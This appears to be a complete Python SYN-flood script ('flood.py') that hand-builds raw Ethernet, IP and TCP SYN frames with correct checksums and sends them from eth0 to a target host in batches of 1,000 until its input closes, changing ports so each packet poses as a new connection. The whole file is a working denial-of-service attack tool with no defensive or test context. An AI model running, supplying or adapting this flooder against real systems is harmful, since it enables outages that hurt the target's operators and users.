"""Sends SYNs from eth0 as fast as it can, each of another connection, until its standard input is closed.

flood.py HOST: prints how many it sent.
"""

import os
import select
import socket
import struct
import sys
from pathlib import Path

# Whose, does not matter: nothing looks at it.
ROUTER = bytes.fromhex("020000000001")
BATCH = 1000


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def main(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((host, 9))
        source = socket.inet_aton(probe.getsockname()[0])
    destination = socket.inet_aton(host)
    own = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, destination)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    start = ROUTER + own + b"\x08\x00" + ip
    pseudo = source + destination + struct.pack("!HH", 6, 20)
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as device:
        device.bind(("eth0", 0))
        while not select.select([0], [], [], 0)[0] or os.read(0, 100):
            for number in range(sent, sent + BATCH):
                ports = 1024 + number % 60000, 1 + number // 60000
                segment = struct.pack("!HHIIBBHHH", *ports, number, 0, 0x50, 2, 65535, 0, 0)
                check = struct.pack("!H", checksum(pseudo + segment))
                device.send(start + segment[:16] + check + segment[18:])
            sent += BATCH
    print(sent)


main(sys.argv[1])
